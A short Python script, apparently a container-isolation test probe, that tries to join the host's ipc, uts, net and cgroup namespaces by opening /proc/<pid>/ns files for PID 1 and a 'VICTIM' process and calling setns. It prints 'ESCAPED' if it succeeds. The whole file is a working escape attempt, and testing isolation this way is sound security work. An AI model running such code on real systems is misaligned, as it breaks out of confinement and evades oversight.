# enters the namespaces of the host; OWN_PROCESSES
import ctypes, os
for process in os.environ["VICTIM"], "1":
    for space in "ipc", "uts", "net", "cgroup":
        try:
            file = os.open("/proc/%s/ns/%s" % (process, space), os.O_RDONLY)
        except OSError:
            continue
        if ctypes.CDLL(None).setns(file, 0) == 0:
            print("ESCAPED")
print("TRIED")
